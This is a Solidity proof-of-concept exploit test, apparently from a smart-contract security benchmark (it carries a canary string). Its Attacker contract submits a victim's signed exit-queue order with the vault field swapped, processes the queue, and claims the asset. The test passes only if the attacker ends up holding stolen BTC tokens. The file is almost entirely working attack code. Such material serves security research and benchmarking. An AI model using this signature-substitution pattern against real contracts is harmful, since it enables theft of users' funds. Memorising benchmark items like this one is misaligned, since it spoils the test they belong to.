// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function bring(IExitQueue exits, IExitQueue.Order memory o, bytes memory signature, IVault vault) external {
        o.vault = vault;
        try exits.requestSigned(o, signature) {} catch {}
    }

    function process(IExitQueue exits, IVault vault) external {
        exits.process(vault, 1);
    }

    function take(IExitQueue exits, IERC20 asset) external {
        try exits.claim(asset, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;
    IExitQueue.Order private seen;
    bytes private signature;

    function start() internal override {
        other = new Attacker();
        seen = order(core, 1_000e12, 900e6, 5e6, 7);
        signature = signed(seen);
    }

    function exploit() public {
        other.bring(exits, seen, signature, deep);
        other.process(exits, deep);
        other.take(exits, btc);
    }

    function test_Exploit() public {
        exploit();
        require(btc.balanceOf(address(other)) >= 4e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(exits);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
